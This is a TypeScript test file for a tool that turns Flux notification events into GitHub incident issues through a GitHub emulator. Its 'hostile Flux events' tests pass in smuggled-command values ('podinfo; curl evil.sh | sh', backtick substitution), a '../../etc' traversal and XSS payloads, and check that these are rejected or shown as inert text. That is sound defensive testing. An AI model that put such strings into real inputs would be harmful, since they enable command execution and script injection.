// Flux as a source: its notification-controller's githubdispatch provider calls the
// repository_dispatch API itself (event_type `<Kind>/<name>.<namespace>`, the Flux event
// as client_payload). Each event here is sent that way with the real Octokit to the
// GitHub emulator, and the repository_dispatch it starts is taken through intake's stage
// as the intake action does (its client_payload): one incident per failing object, closed
// at the source on recovery, and nothing for an info event alone.
import { INTAKE_DEFAULTS } from '../../src/config/config.js';
import { createGitHubClient } from '../../src/github/client.js';
import { runIntake } from '../../src/incidents/stage.js';
import type { UpsertContext } from '../../src/incidents/upsert.js';
import { PayloadError } from '../../src/alerts/shapes.js';
import { startGitHubEmulator, type GitHubEmulator } from '../../src/sim/github/server.js';
import { recordOn, REPOSITORY } from './support.js';

let gh: GitHubEmulator;
const repo = () => gh.repo(REPOSITORY);
const [owner, name] = REPOSITORY.split('/') as [string, string];

beforeEach(async () => {
  gh = await startGitHubEmulator({ repos: [REPOSITORY], budget: 100_000 });
  gh.clock.set(Date.parse('2026-11-22T03:00:00Z'));
});
afterEach(async () => {
  await gh.close();
});

function client() {
  return createGitHubClient({
    token: 'ghs_flux_test',
    baseUrl: gh.url,
    writeIntervalMs: 0,
    notificationIntervalMs: 0,
    retryUnitMs: 1,
    warn: () => {},
  });
}

/** A Flux event (fluxcd/pkg/apis/event/v1 Event) as the controllers emit it. */
function fluxEvent(overrides: {
  kind?: string;
  namespace?: string;
  name?: string;
  severity?: string;
  reason?: string;
  message?: string;
  metadata?: Record<string, string>;
}): Record<string, unknown> {
  const kind = overrides.kind ?? 'HelmRelease';
  return {
    involvedObject: {
      kind,
      namespace: overrides.namespace ?? 'podinfo',
      name: overrides.name ?? 'podinfo',
      uid: '1b3c5d7e-2f4a-4c6e-8a0b-9d1f3e5a7c9b',
      apiVersion:
        kind === 'HelmRelease' ? 'helm.toolkit.fluxcd.io/v2' : 'kustomize.toolkit.fluxcd.io/v1',
      resourceVersion: '48211',
    },
    severity: overrides.severity ?? 'error',
    timestamp: '2026-11-22T03:00:00Z',
    message:
      overrides.message ??
      'Helm upgrade failed for release podinfo/podinfo with chart podinfo@6.5.0: context deadline exceeded',
    reason: overrides.reason ?? 'UpgradeFailed',
    metadata: overrides.metadata ?? { revision: '6.5.0', cluster: 'prod' },
    reportingController: kind === 'HelmRelease' ? 'helm-controller' : 'kustomize-controller',
    reportingInstance: 'helm-controller-5f7d8c9b4-q2w7x',
  };
}

/**
 * Sends the event as Flux's githubdispatch provider does, then runs intake on the
 * repository_dispatch the emulator emitted for it.
 */
async function deliver(event: Record<string, unknown>, cluster?: string) {
  const { octokit, stats } = client();
  const io = event.involvedObject as { kind: string; name: string; namespace: string };
  const start = gh.webhooks.length;
  await octokit.rest.repos.createDispatchEvent({
    owner,
    repo: name,
    event_type: `${io.kind}/${io.name}.${io.namespace}`,
    client_payload: event,
  });
  const [dispatched] = gh.webhooks.since(start).filter((e) => e.name === 'repository_dispatch');
  expect(dispatched!.action).toBe(`${io.kind}/${io.name}.${io.namespace}`);
  const context: UpsertContext = {
    octokit,
    stats,
    owner,
    repo: name,
    base: { branch: undefined, sha: undefined },
    mode: 'issue',
    config: INTAKE_DEFAULTS,
    labels: [],
    backoffMs: 1,
    log: { info: () => {}, warning: () => {} },
  };
  const before = stats.total;
  const outcome = await runIntake(
    {
      payload: dispatched!.payload.client_payload as Record<string, unknown>,
      retry: undefined,
      cluster,
      config: INTAKE_DEFAULTS,
    },
    context,
  );
  return { outcome, requests: stats.total - before };
}

describe('intake of Flux events', () => {
  it('opens one incident per failing object, whatever the reason, named after the object, with Flux commands', async () => {
    const first = await deliver(fluxEvent({}));
    const again = await deliver(
      fluxEvent({
        reason: 'RetriesExceeded',
        message: 'Failed to upgrade after 1 attempt(s): upgrade retries exhausted',
      }),
    );
    const other = await deliver(
      fluxEvent({
        kind: 'Kustomization',
        namespace: 'flux-system',
        name: 'apps',
        reason: 'ReconciliationFailed',
        message:
          'ServiceMonitor/podinfo/podinfo dry-run failed: no matches for kind "ServiceMonitor" in version "monitoring.coreos.com/v1"',
      }),
    );
    expect(first.outcome.results.map((r) => r.action)).toEqual(['created']);
    expect(again.outcome.results.map((r) => [r.action, r.number])).toEqual([
      ['updated', first.outcome.results[0]!.number],
    ]);
    expect(other.outcome.results.map((r) => r.action)).toEqual(['created']);
    const issues = repo().openIssues();
    expect(issues.map((i) => i.title).sort()).toEqual([
      '[warning] prod: Flux HelmRelease podinfo/podinfo is failing',
      '[warning] prod: Flux Kustomization flux-system/apps is failing',
    ]);
    const helm = issues.find((i) => i.title.includes('HelmRelease'))!;
    for (const command of [
      'flux get helmreleases -n podinfo podinfo',
      'flux logs --kind=HelmRelease --name=podinfo -n podinfo',
      'kubectl -n podinfo describe helmreleases.helm.toolkit.fluxcd.io podinfo',
    ])
      expect(helm.body).toContain(command);
    const record = recordOn(
      gh,
      first.outcome.results[0]!.branch,
      first.outcome.results[0]!.recordPath,
    );
    expect(record).toMatchObject({
      source: 'flux',
      cluster: 'prod',
      status: 'firing',
      occurrences: 2,
    });
    expect(record.targets.map((t) => t.ref)).toEqual(['HelmRelease/podinfo/podinfo']);
    // Intake's alerts output carries the object to triage.
    expect(first.outcome.alerts[0]).toMatchObject({
      source: 'flux',
      namespace: 'podinfo',
      workload: 'HelmRelease/podinfo',
      details: { flux: { kind: 'HelmRelease', reason: 'UpgradeFailed' } },
    });
  });

  it('resolves the incident on a recovery event for the same object', async () => {
    const failed = await deliver(fluxEvent({}));
    gh.clock.advance(5 * 60_000);
    const recovered = await deliver(
      fluxEvent({
        severity: 'info',
        reason: 'UpgradeSucceeded',
        message: 'Helm upgrade succeeded for release podinfo/podinfo.v4 with chart podinfo@6.5.1',
      }),
    );
    const [result] = recovered.outcome.results;
    expect(result).toMatchObject({
      action: 'updated',
      status: 'resolved',
      number: failed.outcome.results[0]!.number,
    });
    expect(recordOn(gh, result!.branch, result!.recordPath).status).toBe('resolved');
  });

  it('opens nothing for an info event alone, and records it as ignored', async () => {
    const { outcome } = await deliver(
      fluxEvent({
        kind: 'Kustomization',
        namespace: 'flux-system',
        name: 'apps',
        severity: 'info',
        reason: 'ReconciliationSucceeded',
        message: 'Reconciliation finished in 1.52s, next run in 10m0s',
      }),
    );
    expect(outcome.results.map((r) => [r.action, r.number])).toEqual([['ignored', null]]);
    expect(outcome.alerts).toEqual([]);
    expect(repo().openIssues()).toEqual([]);
  });

  it('changes nothing on a progress report (a rollback after the failed upgrade), with no request', async () => {
    const failed = await deliver(fluxEvent({}));
    const rolledBack = await deliver(
      fluxEvent({
        severity: 'info',
        reason: 'RollbackSucceeded',
        message:
          'Helm rollback to previous release podinfo/podinfo.v3 with chart podinfo@6.4.0 succeeded',
      }),
    );
    expect(rolledBack.outcome.results.map((r) => r.action)).toEqual(['ignored']);
    expect(rolledBack.requests).toBe(0);
    const [opened] = failed.outcome.results;
    expect(recordOn(gh, opened!.branch, opened!.recordPath)).toMatchObject({
      status: 'firing',
      occurrences: 1,
    });
  });

  it("takes the cluster from the Alert's eventMetadata, else from the cluster input, else says where to name it", async () => {
    const input = await deliver(fluxEvent({ metadata: { revision: '6.5.0' } }), 'homelab');
    expect(input.outcome.results[0]!.branch).toMatch(/^kubemend\/homelab\//);
    await expect(deliver(fluxEvent({ metadata: { revision: '6.5.0' } }))).rejects.toThrow(
      "payload.metadata.cluster is missing and the action's 'cluster' input is empty; name the cluster in one of them.",
    );
  });
});

describe('hostile Flux events', () => {
  const rejects = async (event: Record<string, unknown>, message: string) => {
    const error = await deliver(event).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PayloadError);
    expect((error as Error).message).toBe(message);
    expect((error as Error).message).not.toContain('\n');
    expect(repo().openIssues()).toEqual([]);
  };

  it('refuses an object name, kind or namespace Kubernetes would not accept, naming the field', async () => {
    await rejects(
      fluxEvent({ name: 'podinfo; curl evil.sh | sh' }),
      "payload.involvedObject.name is not a Kubernetes object name; allowed: lower-case letters, digits, '-' and '.'.",
    );
    await rejects(
      fluxEvent({ kind: 'helmrelease`id`' }),
      'payload.involvedObject.kind is not a Kubernetes kind; allowed: a capitalised word of letters and digits (Kustomization, HelmRelease).',
    );
    await rejects(
      fluxEvent({ namespace: '../../etc' }),
      "payload.involvedObject.namespace is not a namespace name; allowed: lower-case letters, digits and '-'.",
    );
  });

  it('refuses a severity Flux never sends and a missing reason', async () => {
    await rejects(
      fluxEvent({ severity: 'critical' }),
      'payload.severity is not a Flux event severity; allowed: info, error.',
    );
    const event = fluxEvent({});
    delete event.reason;
    await rejects(event, 'payload.reason is missing; expected a string.');
    await rejects(
      { ...fluxEvent({}), metadata: { cluster: { nested: true } } },
      'payload.metadata.cluster is an object; expected a string.',
    );
  });

  it('shows a message full of Markdown, HTML, mentions and forged markers as inert text', async () => {
    await deliver(
      fluxEvent({
        message:
          'Helm upgrade failed <img src=x onerror=alert(1)> @octo-org/admins see #1 <!-- kubemend:record --> [click](https://evil.example) ```\n| a | b |',
        metadata: { cluster: 'prod', summary: '<script>alert(1)</script> @everyone' },
      }),
    );
    const [incident] = repo().openIssues();
    const body = incident!.body ?? '';
    // The message stands in a fenced block longer than any backtick run in it: literal text.
    const fenced = /^(`{4,})text\n([\s\S]*?)\n\1$/m.exec(body);
    expect(fenced?.[2]).toContain('<img src=x onerror=alert(1)>');
    // Every fenced block (the message's, the record's) removed, nothing of it is left.
    const outside = body.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
    expect(outside).not.toMatch(/<img|<script|\]\(https:\/\/evil/);
    // Mentions, issue references and kubemend's markers are defused even in the block.
    expect(body).not.toMatch(/@octo-org\/admins|@everyone|#1\b|<!-- kubemend:record -->/);
  });
});
